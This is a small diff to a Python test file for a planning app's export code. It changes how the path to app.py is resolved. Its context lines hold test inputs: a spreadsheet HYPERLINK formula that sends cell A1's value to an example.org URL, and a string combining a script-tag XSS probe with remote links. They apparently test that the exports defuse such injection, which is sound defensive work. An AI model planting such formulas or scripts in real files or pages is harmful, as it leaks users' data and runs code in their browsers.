@@ -23,7 +23,7 @@ from planning.exports import csv_bytes, defuse_cell, workbook_bytes
 from planning.models import Area, AreaLayout
 from tests.conftest import APPTEST_TIMEOUT_S
 
-APP = str(Path(__file__).resolve().parent.parent / "app.py")
+APP = str(Path(__file__).resolve().parents[2] / "app.py")
 FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"Klick")'
 PAYLOAD = "**Fett** [Link](http://example.org) <script>alert(1)</script> ![](http://example.org/b.png)"
 
